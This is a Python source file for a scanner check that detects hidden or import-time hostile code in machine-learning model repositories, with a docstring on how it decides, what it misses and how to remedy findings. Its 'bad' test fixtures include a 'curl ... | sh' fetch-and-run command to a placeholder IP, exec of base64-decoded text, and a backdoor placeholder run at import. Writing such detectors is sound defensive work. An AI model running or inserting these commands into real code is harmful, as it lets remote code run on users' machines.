"""Program code that hides what it runs, or that acts on the machine as soon as it is imported."""

from __future__ import annotations

from collections.abc import Iterator

from toadstone.core.check import Check, check
from toadstone.core.fact import Call, Fact, Moment
from toadstone.core.finding import Finding, Severity
from toadstone.core.place import Place
from toadstone.core.value import Result, Symbol, render_call
from toadstone.symbols.intent import hostile_anyway, intent_of, revealed

_BASE64 = Symbol("base64", "b64decode")
_EXEC = Symbol("builtins", "exec")


@check(
    "suspicious-code",
    severity=Severity.HIGH,
    reads=Call,
    languages=("python", "notebook"),
    references=("CWE-506", "CWE-912", "MITRE ATLAS 2026.08 AML.T0011", "OWASP LLM 2026 LLM04", "OWASP ML 2023 ML06"),
)
class SuspiciousCode(Check):
    """Python code runs hidden content, or acts on the machine as soon as it is imported.

    ## Why it matters
    A model arrives with code: the modules of its architecture, notebooks that show it, scripts that convert it. Importing a
    module runs its top level, with all rights of the person or the service that imports it. Attackers use exactly that
    moment, and they hide what they run: encoded text handed to `exec`, a command fetched and piped into a shell, a socket
    wired to a shell's input.

    ## How it decides
    The source is parsed, never run. Names are followed through aliases, `getattr`, `__import__`, `partial`, string
    arithmetic and calls between the module's own functions, so that a call is judged by what is really called with what. Two
    questions decide. *Where do the arguments come from?* Code or commands that were decoded (base64, hex, compression,
    character codes, exclusive or) or fetched from the network, a socket as a program's standard input, credentials handed to
    a network call: `critical` on import or load, `high` in functions and in notebooks, whenever they may run. A handler that
    runs what a client of the model server sent, as code, as a command or as the name of a module, is `high`; one that
    unpickles it, and a web page that runs it, is `medium`. *When does it
    run?* A command, a connection, a download, reading credentials or writing start-up files is ordinary inside a function
    and is not reported there; at import it is `high` (writing what opens a door later: `critical`). Commands that only ask
    the machine something (`git rev-parse`, `uname`, `nvidia-smi`) are not reported. Code in a model's own start-up path is
    judged by `remote-code` and `startup-hook` as well.

    ## What it misses
    Values that depend on input, files or the clock are unknown: a payload that is assembled from them shows only by the
    decoding it goes through. Attributes that other modules set, and what imported modules do, are not followed. Code that is
    written in another language, or that Python's parser refuses, is read word by word (and reported as not read completely).

    ## Remedy
    Do not import or run the file. Read the lines shown; if they are legitimate, take the code from its publisher at a pinned
    revision and record a waiver with the reason.

    ## References
    - CWE-506 (embedded malicious code), CWE-912 (hidden functionality)
    - MITRE ATLAS 2026.08 AML.T0011 (user execution); MITRE ATT&CK T1027, T1059.006, T1105
    - Python language reference: import system; PEP 302
    """

    unknown_commands: bool = True
    """Report, as `medium`, commands that run on import and whose program cannot be worked out."""

    def examine(self, fact: Call) -> Iterator[Finding]:
        if fact.language not in ("python", "notebook"):
            return
        intent = intent_of(fact)
        if intent is None:
            return
        eager = fact.when is not Moment.USE
        anyway = hostile_anyway(intent)
        if not eager and not anyway:
            return
        if intent.severity is Severity.MEDIUM and not self.unknown_commands:
            return
        severity = intent.severity if eager or not anyway else min(intent.severity, Severity.HIGH)
        moment = {Moment.LOAD: "when it is loaded", Moment.IMPORT: "when it is imported", Moment.USE: "when it is used"}[
            fact.when
        ]
        yield self.finding(
            fact.place,
            f"This code {intent.deed}, {moment}.",
            severity=severity,
            key=f"{intent.kind} {fact.place}",
            code=render_call(fact.callee, fact.args, fact.kwargs),
            decoded=revealed(fact)[:2000] or None,
            kind=intent.kind,
            how=fact.how,
            score=0.95 if anyway else 0.7,
        )

    @classmethod
    def bad(cls) -> Iterator[Fact]:
        place = Place("modeling_tiny.py", row=2)
        hidden = Result(_BASE64, ("cHJpbnQoMSk=",))
        yield Call(place, _EXEC, (hidden,), (), "call", "python", Moment.USE)
        yield Call(place, Symbol("os", "system"), ("curl http://198.51.100.7/x | sh",), (), "call", "python", Moment.USE)
        yield Call(place, Symbol("subprocess", "run"), ("make-backdoor --now",), (), "call", "python", Moment.IMPORT)
        yield Call(place, _EXEC, (Result(Symbol("serving", "request"), ("...",)),), (), "call", "python", Moment.USE)

    @classmethod
    def good(cls) -> Iterator[Fact]:
        place = Place("setup.py", row=2)
        yield Call(place, Symbol("subprocess", "check_output"), ("git rev-parse HEAD",), (), "call", "python", Moment.IMPORT)
        yield Call(place, Symbol("os", "system"), ("make html",), (), "call", "python", Moment.USE)
        yield Call(place, Symbol("builtins", "open"), ("README.md",), (), "call", "python", Moment.IMPORT)
